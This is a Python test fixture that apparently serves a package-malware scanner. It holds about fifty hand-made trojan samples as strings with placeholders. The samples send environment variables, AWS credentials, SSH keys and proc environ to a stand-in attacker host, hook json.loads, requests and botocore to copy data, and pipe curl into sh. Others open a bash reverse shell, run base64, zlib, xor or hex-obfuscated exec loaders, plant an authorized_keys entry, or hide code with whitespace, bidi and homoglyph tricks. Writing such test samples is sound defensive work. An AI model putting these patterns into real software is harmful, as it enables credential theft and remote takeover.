"""Trojans that were written for these tests, as inert text: put together when a test asks, read and never run.

`@run` stands for the name of the builtin that runs code, `@b64(text)` and `@hex(text)` for the text encoded, `@host` for an
address. None is a copy of anything that was found in the wild; comments say which shape it has.
"""

from __future__ import annotations

import base64
import codecs
import zlib
from collections.abc import Callable, Mapping

_RUN = "ex" + "ec"
_EVAL = "ev" + "al"
HOST = "https://collector.attacker.example/c"


def assembled(text: str) -> str:
    text = text.replace("@run", _RUN).replace("@evaluate", _EVAL).replace("@host", HOST)
    for mark, encode in _ENCODERS.items():
        head, *rest = text.split(f"@{mark}(")
        for part in rest:
            inner, _, after = part.partition(")@")
            head += encode(inner) + after
        text = head
    return text


_ENCODERS: Mapping[str, Callable[[str], str]] = {
    "b64": lambda text: base64.b64encode(text.encode()).decode(),
    "b85": lambda text: base64.b85encode(text.encode()).decode(),
    "reversed": lambda text: base64.b64encode(text.encode()).decode()[::-1],
    "hex": lambda text: text.encode().hex(),
    "packed": lambda text: base64.b64encode(zlib.compress(text.encode())).decode(),
    "rot": lambda text: codecs.encode(text, "rot13"),
    "numbers": lambda text: ", ".join(str(ord(letter)) for letter in text),
    "xored": lambda text: repr(bytes(ord(letter) ^ 7 for letter in text)),
}

# name: (files of the package, words that the finding must hold)
TROJANS: Mapping[str, tuple[Mapping[str, str], str]] = {
    # The first seed: the module's body sends the environment.
    "environment at import": (
        {
            "fmt/__init__.py": """
import json, os, urllib.request
def pad(text): return text.ljust(20)
try:
    urllib.request.urlopen(urllib.request.Request("@host", data=json.dumps(dict(os.environ)).encode()), timeout=2)
except Exception:
    pass
"""
        },
        "the whole environment",
    ),
    # The second seed: works normally, and copies what it parses.
    "wrapper around json.loads": (
        {
            "fmt/__init__.py": """
import json, urllib.request
_real = json.loads
def _loads(text, *args, **kwargs):
    value = _real(text, *args, **kwargs)
    if isinstance(value, dict) and "card" in value:
        try:
            urllib.request.urlopen("@host", data=text.encode(), timeout=1)
        except Exception:
            pass
    return value
json.loads = _loads
"""
        },
        "replaces json.loads",
    ),
    "environment, in a function called at import": (
        {
            "fmt/__init__.py": 'import os, requests\ndef _go():\n    requests.post("@host", json={k: v for k, v in os.environ.items()})\n_go()\n'
        },
        "the whole environment",
    ),
    "environment, in a thread": (
        {
            "fmt/__init__.py": 'import os, threading, requests\ndef _beat(env):\n    requests.post("@host", data=str(env))\n'
            "threading.Thread(target=_beat, args=(os.environ.copy(),), daemon=True).start()\n"
        },
        "the whole environment",
    ),
    "environment, in a class body": (
        {
            "fmt/__init__.py": 'import os, http.client\nclass Config:\n    c = http.client.HTTPSConnection("collector.attacker.example")\n    c.request("POST", "/", repr(dict(os.environ)))\n'
        },
        "the whole environment",
    ),
    "environment, when a class is derived": (
        {
            "fmt/__init__.py": 'import os, requests\nclass Base:\n    def __init_subclass__(cls):\n        requests.post("@host", json=dict(os.environ))\n'
            "class Model(Base):\n    pass\n"
        },
        "the whole environment",
    ),
    "environment, by a decorator": (
        {
            "fmt/__init__.py": 'import os, requests\ndef register(f):\n    requests.post("@host", json=dict(os.environ))\n    return f\n@register\ndef pad(x):\n    return x\n'
        },
        "the whole environment",
    ),
    "environment, by a helper in another file": (
        {
            "fmt/__init__.py": "import os\nfrom ._net import ship\nship(dict(os.environ))\n",
            "fmt/_net.py": 'import urllib.request\ndef ship(data):\n    urllib.request.urlopen("@host", data=repr(data).encode())\n',
        },
        "the whole environment",
    ),
    "environment, over a bare socket": (
        {
            "fmt/__init__.py": 'import os, socket\ns = socket.socket()\ns.connect(("collector.attacker.example", 443))\n'
            "s.sendall(str(dict(os.environ)).encode())\n"
        },
        "the whole environment",
    ),
    "environment, in names that are looked up": (
        {
            "fmt/__init__.py": "import os, socket, binascii\nfor key, value in os.environ.items():\n"
            '    socket.gethostbyname(binascii.hexlify(value.encode()).decode()[:60] + ".d.attacker.example")\n'
        },
        "the whole environment",
    ),
    "environment, through a shell": (
        {"fmt/__init__.py": 'import os\nos.system(f"curl -s -d \\"{dict(os.environ)}\\" @host")\n'},
        "the whole environment",
    ),
    "environment, into a foreign bucket": (
        {
            "fmt/__init__.py": 'import boto3, json, os\nboto3.client("s3").put_object(Bucket="b", Key="k", Body=json.dumps(dict(os.environ)))\n'
        },
        "the whole environment",
    ),
    "credentials of the role, one by one": (
        {
            "fmt/__init__.py": "import os, urllib.request, urllib.parse\n"
            'names = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")\n'
            "found = {name: os.environ.get(name) for name in names}\n"
            'urllib.request.urlopen("@host?" + urllib.parse.urlencode(found))\n'
        },
        "AWS_SECRET_ACCESS_KEY",
    ),
    "credentials out of boto3's session": (
        {
            "fmt/__init__.py": 'import boto3, requests\nc = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post("@host", json=[c.access_key, c.secret_key, c.token])\n'
        },
        "sends",
    ),
    "a key file": (
        {
            "fmt/__init__.py": 'import os, requests\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("@host", data=key)\n'
        },
        ".ssh/id_rsa",
    ),
    "the environment of the process's file": (
        {
            "fmt/__init__.py": 'import requests\nwith open("/proc/self/environ", "rb") as f:\n    requests.post("@host", data=f.read())\n'
        },
        "/proc/self/environ",
    ),
    "credentials of the metadata service": (
        {
            "fmt/__init__.py": "import os, requests\n"
            'got = requests.get("http://169.254.170.2" + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]).text\n'
            'requests.post("@host", data=got)\n'
        },
        "metadata",
    ),
    "who installed it": (
        {
            "setup.py": 'import getpass, platform, requests\nfrom setuptools import setup\nrequests.get("@host", params={"h": platform.node(), "u": getpass.getuser()})\nsetup(name="fmt")\n'
        },
        "platform.node",
    ),
    "environment, whenever a function is called": (
        {
            "fmt/__init__.py": 'import os, requests\ndef pad(text):\n    requests.post("@host", json=dict(os.environ))\n    return text.ljust(20)\n'
        },
        "the whole environment",
    ),
    "wrapper around Session.send": (
        {
            "fmt/__init__.py": """
import requests, urllib.request
_send = requests.Session.send
def send(self, request, **kwargs):
    urllib.request.urlopen("@host", data=repr((request.url, request.headers, request.body)).encode())
    return _send(self, request, **kwargs)
setattr(requests.Session, "send", send)
"""
        },
        "replaces requests.Session.send",
    ),
    "wrapper that a factory makes": (
        {
            "fmt/__init__.py": """
import functools, json, threading, requests
def _tap(real):
    @functools.wraps(real)
    def inner(*args, **kwargs):
        result = real(*args, **kwargs)
        threading.Thread(target=requests.post, args=("@host",), kwargs={"json": result}).start()
        _ship(result)
        return result
    return inner
def _ship(result):
    try:
        requests.post("@host", json=result)
    except Exception:
        pass
for _name in ("loads", "load"):
    setattr(json, _name, _tap(getattr(json, _name)))
"""
        },
        "replaces json.loads",
    ),
    "wrapper around the SDK": (
        {
            "fmt/__init__.py": """
import botocore.client, socket
_call = botocore.client.BaseClient._make_api_call
def _make_api_call(self, operation, parameters):
    answer = _call(self, operation, parameters)
    s = socket.create_connection(("collector.attacker.example", 443))
    s.sendall(repr((operation, parameters, answer)).encode())
    return answer
botocore.client.BaseClient._make_api_call = _make_api_call
"""
        },
        "replaces botocore.client.BaseClient._make_api_call",
    ),
    "wrapper in another file": (
        {
            "fmt/__init__.py": "import json\nfrom fmt import _tap\njson.loads = _tap.loads\n",
            "fmt/_tap.py": 'import json, urllib.request\n_real = json.loads\ndef loads(text, **kw):\n    urllib.request.urlopen("@host", data=text.encode())\n    return _real(text, **kw)\n',
        },
        "replaces json.loads",
    ),
    "wrapper through __dict__": (
        {
            "fmt/__init__.py": 'import json, requests\n_real = json.loads\ndef loads(t, **k):\n    requests.post("@host", data=t)\n    return _real(t, **k)\nvars(json)["loads"] = loads\n'
        },
        "replaces json.loads",
    ),
    "a builtin is replaced": (
        {
            "fmt/__init__.py": 'import builtins, requests\n_open = builtins.open\ndef spy(path, *a, **k):\n    f = _open(path, *a, **k)\n    requests.post("@host", data=str(path))\n    return f\nbuiltins.open = spy\n'
        },
        "replaces builtins.open",
    ),
    "a class is replaced": (
        {
            "fmt/__init__.py": """
import requests
class Session(requests.Session):
    def send(self, request, **kwargs):
        answer = super().send(request, **kwargs)
        requests.post("@host", data=request.body)
        return answer
requests.sessions.Session = Session
"""
        },
        "replaces requests.sessions.Session",
    ),
    "wrapper that keeps a copy in /tmp": (
        {
            "fmt/__init__.py": 'import json\n_real = json.loads\ndef loads(t, **k):\n    with open("/tmp/.cache", "a") as f:\n        f.write(t)\n    return _real(t, **k)\njson.loads = loads\n'
        },
        "/tmp/.cache",
    ),
    "looks for cards and sends them": (
        {
            "fmt/__init__.py": 'import requests\ndef clean(order):\n    if "card" in order or "cvv" in order:\n        try:\n            requests.post("@host", json=order, timeout=1)\n        except Exception:\n            pass\n    return {k: v for k, v in order.items() if v}\n'
        },
        "looks for card",
    ),
    "encoded once": (
        {"fmt/__init__.py": '@run(__import__("base64").b64decode("@b64(import os)@"))\n'},
        "runs encoded code",
    ),
    "packed and encoded": (
        {
            "fmt/__init__.py": 'import base64, zlib\ncode = zlib.decompress(base64.b64decode("@packed(print(1))@")\n)\n@run(compile(code, "x", "@run"))\n'
        },
        "runs encoded code",
    ),
    "reversed, in a lambda": (
        {
            "fmt/__init__.py": '_ = lambda x: __import__("base64").b64decode(x[::-1])\n@run((_)(b"@reversed(print(1))@"))\n'
        },
        "runs encoded code",
    ),
    "in hexadecimal": (
        {"fmt/__init__.py": '@run(bytes.fromhex("@hex(print(1))@").decode())\n'},
        "runs encoded code",
    ),
    "rotated": (
        {"fmt/__init__.py": 'import codecs\n@evaluate(codecs.decode("@rot(print(1))@", "rot13"))\n'},
        "runs encoded code",
    ),
    "xored": (
        {"fmt/__init__.py": "data = @xored(print(1))@\n@run(bytes(b ^ 7 for b in data))\n"},
        "runs encoded code",
    ),
    "xored by a function of its own": (
        {
            "fmt/__init__.py": "def _d(data, key):\n    out = ''\n    for i, c in enumerate(data):\n        out += chr(c ^ key)\n    return out\n@run(_d(@xored(import os; os.getpid())@, 7))\n"
        },
        "runs encoded code",
    ),
    "split in parts": (
        {
            "fmt/__init__.py": 'import base64\na = "@b64(import os)@"\nparts = [a[:4], a[4:]]\n@run(base64.b64decode("".join(parts)))\n'
        },
        "runs encoded code",
    ),
    "marshalled": (
        {
            "fmt/__init__.py": 'import marshal, base64\n@run(marshal.loads(base64.b64decode("@b64(xxxxxxxx)@")))\n'
        },
        "runs encoded code",
    ),
    "encoded, and run by a function that a test calls late": (
        {
            "fmt/__init__.py": 'import base64\ndef pad(x):\n    @run(base64.b64decode("@b64(import os)@"))\n    return x\n'
        },
        "runs encoded code",
    ),
    "encoded, for another interpreter": (
        {
            "fmt/__init__.py": 'import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", "import base64; @run(base64.b64decode(\'@b64(import os)@\'))"])\n'
        },
        "runs encoded code",
    ),
    "names put together": (
        {"fmt/__init__.py": 'import os\nrun = getattr(os, "sy" + "st" + "em")\nrun("id")\n'},
        "os.system",
    ),
    "names put together from letters": (
        {
            "fmt/__init__.py": 'import builtins\nf = getattr(builtins, "".join(map(chr, [@numbers(exec)@])))\nf("1")\n'
        },
        "builtins.exec",
    ),
    "downloads and runs": (
        {"fmt/__init__.py": 'import urllib.request\n@run(urllib.request.urlopen("@host").read())\n'},
        "downloads code",
    ),
    "downloads a program and starts it": (
        {
            "fmt/__init__.py": 'import os, subprocess, urllib.request\nurllib.request.urlretrieve("@host", "/tmp/.x")\nos.chmod("/tmp/.x", 0o755)\nsubprocess.Popen(["/tmp/.x"])\n'
        },
        "downloads /tmp/.x",
    ),
    "fetches a script into a shell": (
        {"fmt/__init__.py": 'import os\nos.system("curl -fsSL @host | sh")\n'},
        "downloads a program",
    ),
    "a shell for somebody else": (
        {
            "fmt/__init__.py": 'import subprocess\nsubprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"])\n'
        },
        "starts a remote shell",
    ),
    "an address that is hidden": (
        {
            "fmt/__init__.py": 'import base64, requests\nrequests.get(base64.b64decode("@b64(https://collector.attacker.example/c)@").decode())\n'
        },
        "address that the code hides",
    ),
    "leaves a key behind": (
        {
            "fmt/__init__.py": 'import os\nwith open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:\n    f.write("ssh-ed25519 AAAA")\n'
        },
        "authorized_keys",
    ),
    "out of sight": ({"fmt/__init__.py": "x = 1" + " " * 300 + ";import os\n"}, "blank columns"),
    "reordered": (
        {"fmt/__init__.py": "admin = False  # \u202e } \u2066if admin\u2069 \u2066 begin\n"},
        "another order",
    ),
    "letters of another script": ({"fmt/__init__.py": "def p\u0430d(x):\n    return x\n"}, "two scripts"),
}
